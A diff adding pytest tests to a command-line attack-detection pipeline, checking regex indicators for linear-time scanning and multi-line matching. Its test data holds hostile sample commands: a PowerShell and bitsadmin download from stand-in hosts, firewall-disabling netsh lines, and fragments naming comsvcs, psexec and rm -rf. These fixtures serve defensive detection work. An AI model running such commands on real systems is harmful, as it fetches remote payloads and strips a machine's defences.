@@ -14,6 +14,7 @@ from pipeline.eventkit import EventKit
 from pipeline.feature_catalogue import BASE_FEATURE_VERSION, N_BASE_FEATURES
 from pipeline.features import FEATURE_NAMES, N_FEATURES, feature_matrix, row_context
 from pipeline.indicators import (
+    _TOKEN_SPLIT,
     INDICATORS,
     LINEAR_FROM,
     LONE_INDICATOR_NAMES,
@@ -244,15 +245,56 @@ def test_a_command_line_repeating_trigger_words_is_scanned_in_linear_time(word: 
     assert time.perf_counter() - started < 2.0
 
 
+HOSTILE_LINES = [
+    "comsvcs" + " " * 32_000,  # credential_tool: `\\W*,?\\s*` split every way (13 s)
+    "ssh " + "a" * 32_000,  # remote_execution: `\\S+@?\\S+` (7 s)
+    "ssh -x " + "a@" * 16_000,  # remote_execution (10 s)
+    "rm -" + "rf" * 16_000,  # file_wipe: `-\\w*r\\w*f\\w*` (minutes)
+    "invoke-command " + "{" * 32_000,  # remote_launch: `\\{[^}]{0,1024}` from every brace
+    "\\temp\\" * 5_000,  # user_writable_exec
+    "/proc/" * 5_000,  # memory_dump
+    "psexec" * 5_000,  # explicit_credentials
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_LINES, ids=lambda t: t[:12])
+def test_a_hostile_line_without_repeated_trigger_words_is_scanned_in_linear_time(text: str) -> None:
+    """One trigger word and a long run the pattern can split many ways, or many trigger words each
+    scanning to the end of one long token: quadratic or worse in the plain patterns *and* in the linear
+    forms, whose first-occurrence rewrite only removes the backtracking between `.*`-separated parts."""
+    started = time.perf_counter()
+    indicator_mask(text + "a"), lone_mask(text + "b")  # not cached
+    assert time.perf_counter() - started < 0.5
+
+
 def test_the_linear_forms_decide_as_the_patterns_do() -> None:
     texts = [t.lower() for texts in POSITIVES.values() for t in texts] + [t.lower() for t in ORDINARY]
     texts += ["sc config x binpath= c:\\users\\public\\a.exe", "netsh advfirewall set x off"]
     for ind in (*INDICATORS, *LONE_INDICATORS):
         for text in texts:
             assert (ind.pattern.search(text) is None) == (ind.linear.search(text) is None), (ind.name, text)
-    expected = r"^(?:(?>.*?(?:a\b))(?>.*?(?:b)).*?(?:c)|(?>.*?(?:a\b)).*?(?:d)|.*?(?:e))"
+    expected = r"(?:\A|(?<=\n))(?:(?>.*?(?:a\b))(?>.*?(?:b)).*?(?:c)|(?>.*?(?:a\b)).*?(?:d)|.*?(?:e))"
     assert linear_form(r"a\b.*(b.*c|d)|e") == expected
     assert linear_form(r"^(?=.*x)y") == r"^(?=.*x)y"  # anchored conjunctions are linear already
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("url_literal", "iwr https://evil.example/a.ps1"),
+        ("download_cradle", "bitsadmin /transfer j http://e.example/x c:\\x"),
+        ("defense_tamper", "netsh advfirewall set allprofiles state off"),
+        ("firewall_change", "netsh advfirewall firewall add rule name=x dir=in action=allow"),
+    ],
+)
+def test_the_linear_forms_find_what_is_not_on_a_long_script_s_first_line(name: str, line: str) -> None:
+    """`.` stops at a newline: a linear form anchored at the text's start only searched the first line
+    of a script (PowerShell script blocks are multi-line and often 512+ characters)."""
+    ind = next(i for i in (*INDICATORS, *LONE_INDICATORS) if i.name == name)
+    script = "# header\n" + "$x = 1\n" * 100 + line
+    for text in (script, "netsh advfirewall show\n" + "x" * 600 + "\n" + line):
+        assert len(text) >= LINEAR_FROM and ind.pattern.search(text)
+        assert ind.search(text, frozenset(_TOKEN_SPLIT.split(text))), (name, text[-80:])
 
 
 def test_long_texts_are_searched_with_the_linear_forms(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -263,3 +305,22 @@ def test_long_texts_are_searched_with_the_linear_forms(monkeypatch: pytest.Monke
     never = re.compile("$^")
     broken = type(ind)(ind.name, ind.doc, ind.techniques, ind.pattern, ind.substrings, ind.tokens, never)
     assert broken.search(short, tokens) and not broken.search(long, tokens)  # the long one used `linear`
+
+
+def test_an_alert_of_the_lone_booster_names_the_techniques_of_its_lone_indicators() -> None:
+    from pipeline.detect import _techniques
+
+    values = np.zeros(N_FEATURES, dtype=np.float32)
+    values[COLUMN["lone_plugin_dll_register"]] = 1.0
+    values[COLUMN["lone_anc_session_hijack"]] = 1.0
+    found = _techniques(0, values)
+    assert {"T1546.007", "T1563.002"} <= set(found)
+    assert _techniques(0, np.zeros(N_FEATURES, dtype=np.float32)) == ()
+
+
+def test_two_views_without_any_lone_command_row_is_a_clear_error(tiny: Dataset) -> None:
+    without = Dataset(tiny.matrix.copy(), tiny.labels, tiny.weights, tiny.source_index, tiny.trees, tiny.keys,
+                      tiny.sources, tiny.reports)
+    without.matrix[:, N_BASE_FEATURES:] = 0.0
+    with pytest.raises(ValueError, match="one-view"):
+        fit_views(without, TINY)
